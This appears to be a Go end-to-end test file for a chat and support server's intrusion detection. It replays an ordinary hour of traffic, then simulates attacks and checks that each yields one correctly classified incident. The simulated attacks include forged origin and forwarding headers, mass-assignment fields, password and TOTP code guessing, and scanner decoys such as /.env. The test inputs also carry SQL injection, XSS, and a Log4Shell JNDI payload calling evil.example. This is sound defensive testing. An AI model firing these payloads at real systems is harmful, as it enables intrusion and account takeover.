package e2e

import (
	"crypto/hmac"
	"crypto/sha1"
	"encoding/base32"
	"encoding/binary"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

// attempt is an incident as the console gets it.
type attempt struct {
	ID, Attack, Severity, State string
	Signals                     int
	First, Opened               int64
	Actor                       struct {
		Kind, Network, Conversation string
		Staff, Subject              *named
	}
	Doors    []struct{ What string }
	Subjects []struct{ Who named }
}

func (a *agent) attempts(t testing.TB) []attempt {
	t.Helper()
	var b struct{ Incidents []attempt }
	a.ask("GET", "/v1/incidents?limit=200", nil).must(t, 200).into(t, &b)
	return b.Incidents
}

// An hour of a shop's day, replayed fast on the server as it is shipped, is no incident. Then it is attacked in the ways of the
// catalogue: each attack is one incident within a minute, of the right kind, source and target, and there is no other (faults 1,
// 4, 5, 16, 27, 30, 40, 56, 61, 67, 114).
func TestIncidentsOfAnHour(t *testing.T) {
	t.Parallel()
	const proxy = "127.0.0.2"
	s := child(t, setup{level: "info", limits: "sign_ins_per_minute: 1000", extra: "proxies: ['" + proxy + "']"})
	officer := s.hire("Olga", "privacy-officer")
	var key string
	replayed := s.comes("a chat whose first token will be used again", func(form map[string]any, _ *request) { key = form["key"].(string) })
	replayed.mustGreet(t, 0)
	confirmed := time.Now()

	day := newDay(s)
	day.visitors(t)
	day.staff(t)
	day.machines(t)
	time.Sleep(3 * time.Second) // facts are weighed every second
	if list := officer.attempts(t); len(list) != 0 {
		t.Fatalf("ordinary traffic is %+v", list)
	}

	victim, prober, tess := s.hire("Vera", "agent"), s.hire("Pat", "agent"), s.hire("Tess", "agent")
	for _, tc := range []struct {
		name   string
		attack func(t *testing.T)
		is     string // the attack that it is found to be
		from   string // where the actor is, or who: "staff Pat", "many", "visitor"
		door   string
		target string // the account's name
	}{
		{"1: the staff's socket from foreign pages", func(t *testing.T) {
			for _, o := range []string{"null", "https://evil.example", s.origin(consoleHost) + ".evil.example", "http://evil" + consoleHost, "https://" + consoleHost, s.origin(consoleHost) + ":8443", strings.ToUpper(s.origin(consoleHost))} {
				if _, res, err := s.upgrade(consoleHost, "/v1/staff/socket", "127.1.1.5", "Origin: "+o, "Cookie: __Host-snug="+victim.cookie); err == nil || res == nil || res.StatusCode != 403 {
					t.Errorf("%s: %v %v", o, res, err)
				}
			}
		}, "foreign_origin", "127.1.1.0/24", "GET /v1/staff/socket", ""},
		{"5: tokens where they have no business", func(t *testing.T) {
			for range 8 {
				s.ask(request{method: "GET", host: consoleHost, path: "/v1/me", cookie: replayed.token, from: "127.1.5.5"}).must(t, 401)
				s.ask(request{method: "GET", host: chatHost, path: "/v1/visit", token: victim.cookie, from: "127.1.5.5"}).must(t, 401)
			}
		}, "token_guessing", "127.1.5.0/24", "GET /v1/me", ""},
		{"16: sockets without end", func(t *testing.T) {
			refused := 0
			for range 120 {
				nc, res, _ := s.upgrade(chatHost, "/v1/socket", "127.1.16.5", "Origin: "+s.origin(chatHost))
				if nc != nil {
					defer nc.Close()
				} else if res != nil && res.StatusCode == 429 && res.Header.Get("Retry-After") != "" {
					refused++
				}
			}
			if refused < 50 {
				t.Errorf("%d were refused", refused)
			}
		}, "flooding", "127.1.16.0/24", "GET /v1/socket", ""},
		{"27: addresses made up, sent direct and through the proxy", func(t *testing.T) {
			for _, h := range []http.Header{
				{"X-Forwarded-For": {"::ffff:10.0.0.1"}}, {"X-Forwarded-For": {"010.0.0.1"}}, {"Forwarded": {"for=127.1"}}, {"X-Real-Ip": {"[::1]"}},
				{"True-Client-Ip": {"fe80::1%eth0"}}, {"X-Forwarded-For": {"10.0.0.1, 10.0.0.2, 10.0.0.3"}},
			} {
				s.ask(request{method: "GET", host: consoleHost, path: "/", header: h, from: "127.1.27.5"})
			}
			for _, claim := range []string{"10.0.0.9", "::1", "198.51.100.1"} {
				s.ask(request{method: "GET", host: consoleHost, path: "/", header: http.Header{"X-Forwarded-For": {claim + ", 127.1.27.5"}}, from: proxy})
			}
		}, "forged_address", "127.1.27.0/24", "GET", ""},
		{"30: methods that no call has", func(t *testing.T) {
			for _, m := range []string{"TRACE", "FROB", "PATCH", "PUT", "DELETE", "TRACE"} {
				s.ask(request{method: m, host: chatHost, path: "/v1/visit/start", from: "127.1.30.5"}).must(t, 405)
			}
		}, "malformed_frames", "127.1.30.0/24", "", ""},
		{"40: fields that nobody has, as a visitor", func(t *testing.T) {
			v := s.comes("a visitor who wants more", func(_ map[string]any, r *request) { r.from = "127.1.40.5" })
			for key, value := range forgedFields {
				for path, body := range map[string]map[string]any{
					"/v1/visit/page": {"url": "https://shop.example/", "title": "x"}, "/v1/visit/rating": {"stars": 5, "comment": ""}, "/v1/visit/withdraw": {"purpose": "keep"},
				} {
					body[key] = value
					s.ask(request{method: "POST", host: chatHost, path: path, body: body, token: v.token, from: "127.1.40.5"}).must(t, 400)
				}
			}
		}, "forged_fields", "127.1.40.0/24", "POST /v1/visit/page", ""},
		{"40: the same, as staff", func(t *testing.T) {
			for key, value := range forgedFields {
				prober.ask("PUT", "/v1/me/presence", map[string]any{"state": "online", key: value}).must(t, 400)
				prober.ask("POST", at(replayed.conversation, "/entries"), map[string]any{"id": newClientID(), "kind": "message", "text": "x", key: value}).must(t, 400)
			}
		}, "forged_fields", "staff Pat", "PUT /v1/me/presence", ""},
		{"56: one address, one account", func(t *testing.T) {
			s.guesses(t, 14, func(int) string { return "127.1.56.5" }, func(int) string { return victim.email })
		},
			"password_guessing", "127.1.56.0/24", "/v1/session", "Vera"},
		{"56: one address, many accounts", func(t *testing.T) {
			s.guesses(t, 13, func(int) string { return "127.1.57.5" }, func(i int) string { return fmt.Sprintf("name%d@alder.example", i) })
		}, "password_guessing", "127.1.57.0/24", "/v1/session", ""},
		{"56: many addresses, one account", func(t *testing.T) {
			s.guesses(t, 12, func(i int) string { return fmt.Sprintf("127.2.%d.5", i%6) }, func(int) string { return prober.email })
		}, "password_guessing", "many", "/v1/session", "Pat"},
		{"61: codes used again, at once, and guessed", func(t *testing.T) {
			secret, used := tess.enrols(t)
			half := func() string {
				link, err := s.host().Link(t.Context(), tess.email)
				if err != nil {
					t.Fatal(err)
				}
				a := s.ask(request{method: "POST", host: consoleHost, path: "/v1/session/link", from: "127.1.61.5", body: map[string]any{"token": link}}).must(t, 200)
				for _, c := range a.header.Values("Set-Cookie") {
					if pair, _, _ := strings.Cut(c, ";"); strings.HasPrefix(pair, "__Host-snug-second=") {
						return pair
					}
				}
				t.Fatalf("no second step: %s", a.body)
				return ""
			}
			first := half()
			second := func(code string) {
				a, err := s.try(request{method: "POST", host: consoleHost, path: "/v1/session/second", from: "127.1.61.5", header: http.Header{"Cookie": {first}}, body: map[string]any{"way": "totp", "code": code}})
				if err != nil || a.status < 400 || a.status >= 500 {
					t.Errorf("a code that is no good: %d %v", a.status, err)
				}
			}
			var both sync.WaitGroup
			for range 2 {
				both.Go(func() { second(used) })
			}
			both.Wait()
			second(codeAt(t, secret, time.Now().Add(5*time.Minute)))
			second(codeAt(t, secret, time.Now().Add(-5*time.Minute)))
			for i := range 4 {
				second(fmt.Sprintf("%06d", i))
			}
		}, "factor_guessing", "127.1.61.0/24", "/v1/session", "Tess"},
		{"67: an agent tries all doors", func(t *testing.T) {
			for _, path := range []string{"/v1/posture", "/v1/audit", "/v1/consent", "/v1/erasures", "/v1/access/allow-list", "/v1/access/people", "/v1/incidents", "/v1/sites", "/v1/mask-incidents"} {
				prober.ask("GET", path, nil).must(t, 403)
			}
		}, "permission_probing", "staff Pat", "GET /v1/posture", ""},
		{"decoys", func(t *testing.T) {
			for _, path := range []string{"/.env", "/wp-login.php", "/phpmyadmin/index.php", "/.git/config"} {
				s.ask(request{method: "GET", host: chatHost, path: path, from: "127.1.90.5"}).must(t, 404)
			}
		}, "scanning", "127.1.90.0/24", "", ""},
		{"payloads", func(t *testing.T) {
			for _, q := range []string{"1%27%20OR%20%271%27=%271", "%24%7Bjndi:ldap://evil.example/a%7D", "%3Cscript%3Ealert(1)%3C/script%3E"} {
				s.ask(request{method: "GET", host: consoleHost, path: "/v1/search?q=" + q, from: "127.1.91.5"}).must(t, 401)
			}
		}, "attack_payload", "127.1.91.0/24", "", ""},
		{"4: an old token is used again", func(t *testing.T) {
			time.Sleep(time.Until(confirmed.Add(62 * time.Second))) // the one before the confirmed is good for a minute
			if a := s.ask(request{method: "GET", host: chatHost, path: "/v1/visit", token: key, from: "127.1.4.5"}); a.code() != "token_replayed" {
				t.Errorf("%d %s", a.status, a.body)
			}
		}, "token_replay", "visitor", "GET /v1/visit", ""},
	} {
		began := time.Now()
		before := officer.attempts(t)
		tc.attack(t)
		var found []attempt
		soon(t, tc.name, func() bool {
			time.Sleep(200 * time.Millisecond)
			found = slices.DeleteFunc(officer.attempts(t), func(a attempt) bool { return slices.ContainsFunc(before, func(b attempt) bool { return a.ID == b.ID }) })
			return len(found) > 0
		})
		took := time.Since(began)
		time.Sleep(1200 * time.Millisecond) // another would have come by then
		found = slices.DeleteFunc(officer.attempts(t), func(a attempt) bool { return slices.ContainsFunc(before, func(b attempt) bool { return a.ID == b.ID }) })
		if len(found) != 1 || found[0].Attack != tc.is || found[0].where() != tc.from || took > time.Minute ||
			tc.door != "" && !slices.ContainsFunc(found[0].Doors, func(d struct{ What string }) bool { return d.What == tc.door }) ||
			tc.target != "" && (len(found[0].Subjects) != 1 || found[0].Subjects[0].Who.Name != tc.target) {
			t.Errorf("%s: %+v after %s", tc.name, found, took)
		}
		t.Logf("%-60s %-20s %s, %d facts, %s", tc.name, tc.is, tc.from, found[0].Signals, took.Round(time.Millisecond))
	}
}

// enrols an authenticator app, goes on with the session's next token, and returns the app's secret and the code that was used for it.
func (a *agent) enrols(t testing.TB) (secret, used string) {
	t.Helper()
	var offer struct{ Secret string }
	a.ask("POST", "/v1/me/factors/totp", nil).must(t, 200).into(t, &offer)
	used = codeAt(t, offer.Secret, time.Now())
	a.cookie = a.ask("PUT", "/v1/me/factors/totp", map[string]any{"code": used}).must(t, 200).session()
	return offer.Secret, used
}

// codeAt is what an app shows at a time (RFC 6238).
func codeAt(t testing.TB, secret string, at time.Time) string {
	t.Helper()
	key, err := base32.StdEncoding.DecodeString(secret)
	if err != nil {
		t.Fatal(err)
	}
	mac := hmac.New(sha1.New, key)
	_ = binary.Write(mac, binary.BigEndian, at.Unix()/30)
	sum := mac.Sum(nil)
	return fmt.Sprintf("%06d", binary.BigEndian.Uint32(sum[sum[19]&15:])&0x7fffffff%1000000)
}

var forgedFields = map[string]any{
	"role": "administrator", "is_admin": true, "tenant_id": "x", "created_at": 0, "masked": false, "consent": true, "agent_id": "x",
}

// where an incident's actor is, or who.
func (a attempt) where() string {
	switch a.Actor.Kind {
	case "network":
		return a.Actor.Network
	case "staff":
		return "staff " + a.Actor.Staff.Name
	}
	return a.Actor.Kind
}

// guesses tries wrong passwords.
func (s *server) guesses(t testing.TB, n int, from, email func(i int) string) {
	t.Helper()
	for i := range n {
		a := s.ask(request{method: "POST", host: consoleHost, path: "/v1/session", from: from(i), body: map[string]any{"email": email(i), "password": fmt.Sprintf("wrong brown kettle %d", i)}})
		if a.status != 401 && a.status != 429 {
			t.Errorf("a wrong password: %d %s", a.status, a.body)
		}
	}
}

// day is a shop's, in an hour of which this and that goes wrong for honest people.
type day struct {
	s *server
}

func newDay(s *server) *day { return &day{s} }

// visitors come from many networks, and behave as visitors do.
func (d *day) visitors(t *testing.T) {
	t.Helper()
	s := d.s
	s.consent()
	var all sync.WaitGroup
	slots := make(chan struct{}, 8)
	for i := range 60 {
		all.Go(func() {
			slots <- struct{}{}
			defer func() { <-slots }()
			home, train := fmt.Sprintf("127.3.%d.9", i%20), fmt.Sprintf("127.4.%d.9", i)
			form := s.form(fmt.Sprintf("Hello, where is my order %d? It's 5 o'clock or so :-)", 1000+i))
			r := request{method: "POST", host: chatHost, path: "/v1/visit/start", body: form, from: home}
			v, err := s.start(r)
			if err != nil {
				t.Error(err)
				return
			}
			if _, err := s.start(r); err != nil { // a double click
				t.Error(err)
			}
			ask := func(from, method, path string, body any) answer {
				a, err := s.try(request{method: method, host: chatHost, path: path, body: body, token: v.token, from: from})
				if err != nil || a.status >= 500 {
					t.Errorf("%s: %d %v", path, a.status, err)
				}
				return a
			}
			for n := range 3 { // the network is lost, and another found
				from := home
				if n == 1 {
					from = train
				}
				k, err := s.open(chatHost, "/v1/socket", from)
				if err != nil {
					t.Error(err)
					return
				}
				_ = k.say(map[string]any{"t": "hello", "v": 1, "token": v.token, "after": n})
				if _, err := k.find(patience, func(f *frame) bool { return f.T == "welcome" }); err != nil {
					t.Error(err)
				}
				for _, text := range []string{"I'd like the <b>big</b> one & the small one", "see https://shop.example/p?id=1&x=2", "It said 'wrong password' or 'locked'"} {
					id := newClientID()
					for range 2 { // sent again, since the ack was slow
						_ = k.say(map[string]any{"t": "post", "id": id, "text": text})
					}
					_ = k.say(map[string]any{"t": "typing", "on": true})
					if _, err := k.find(patience, func(f *frame) bool { return f.T == "ack" && f.ID == id }); err != nil {
						t.Error(err)
					}
				}
				_ = k.nc.Close()
			}
			ask(train, "POST", "/v1/visit/page", map[string]any{"url": "https://shop.example/cart?item=5", "title": "Cart"})
			ask(train, "GET", "/v1/visit", nil)
			switch i % 4 {
			case 0:
				ask(home, "POST", "/v1/visit/rating", map[string]any{"stars": 5, "comment": "Thanks!"})
			case 1:
				ask(home, "POST", "/v1/visit/end", nil)
				ask(home, "POST", "/v1/visit/end", nil)
			case 2: // erased, and come back to from another tab
				ask(home, "POST", "/v1/visit/erase", map[string]any{"confirm": true})
				for range 3 {
					ask(home, "GET", "/v1/visit", nil)
				}
			}
		})
	}
	all.Wait()
}

// staff work in one office, mistype passwords, use stale links and tabs that are signed out.
func (d *day) staff(t *testing.T) {
	t.Helper()
	s := d.s
	const office = "127.5.0.9"
	for i := range 8 {
		name := fmt.Sprintf("Colleague%d", i)
		a := s.hire(name, "agent")
		password := fmt.Sprintf("a quiet green teapot %d", i)
		ask := func(method, path string, body any) answer {
			return s.ask(request{method: method, host: consoleHost, path: path, body: body, cookie: a.cookie, from: office})
		}
		ask("POST", "/v1/me/password", map[string]any{"current": "", "new": password})
		for try := range 1 + i%3 {
			typed := password
			if try < i%3 {
				typed = strings.ToUpper(password)
			}
			b := s.ask(request{method: "POST", host: consoleHost, path: "/v1/session", from: office, body: map[string]any{"email": a.email, "password": typed}})
			if want := 401; typed == password {
				b.must(t, 200)
			} else {
				b.must(t, want)
			}
		}
		link := newKey() // one from last week's mail
		for range i % 3 {
			s.ask(request{method: "POST", host: consoleHost, path: "/v1/session/link", from: office, body: map[string]any{"token": link}})
		}
		stale := newKey()
		for range 6 { // a tab whose session is over asks on
			s.ask(request{method: "GET", host: consoleHost, path: "/v1/me", cookie: stale, from: office}).must(t, 401)
		}
		for _, path := range []string{"/v1/me", "/v1/conversations?box=unassigned", "/v1/search?q=o%27brien+or+smith", "/v1/replies", "/v1/staff"} {
			ask("GET", path, nil).must(t, 200)
		}
		ask("GET", at("01920f5e-7c1a-7000-8000-00000000000"+fmt.Sprint(i), ""), nil).must(t, 404) // a bookmark of what is erased
		ask("GET", "/v1/posture", nil).must(t, 403)                                               // an address that a colleague passed on
		k, err := s.open(consoleHost, "/v1/staff/socket", office, "Cookie: __Host-snug="+a.cookie)
		if err != nil {
			t.Fatal(err)
		}
		_ = k.say(`{"t":"hello","v":1}`)
		if _, err := k.find(patience, func(f *frame) bool { return f.T == "welcome" }); err != nil {
			t.Error(err)
		}
		_ = k.nc.Close()
	}
}

// machines come by: search engines, monitors, browsers that look for what pages often have.
func (d *day) machines(t *testing.T) {
	t.Helper()
	for _, host := range []string{chatHost, consoleHost} {
		for _, path := range []string{"/favicon.ico", "/robots.txt", "/sitemap.xml", "/apple-touch-icon.png", "/.well-known/security.txt", "/assets/index-of-last-week.js", "/"} {
			d.s.ask(request{method: "GET", host: host, path: path, from: "127.6.0.9"})
		}
		for range 20 {
			d.s.ask(request{method: "HEAD", host: host, path: "/healthz", from: "127.6.1.9", header: http.Header{"Origin": {}, "Sec-Fetch-Site": {}}})
		}
	}
	d.s.ask(request{method: "OPTIONS", host: chatHost, path: "/v1/visit/start", from: "127.6.2.9", header: http.Header{"Origin": {"https://elsewhere.example"}, "Access-Control-Request-Method": {"POST"}}})
}
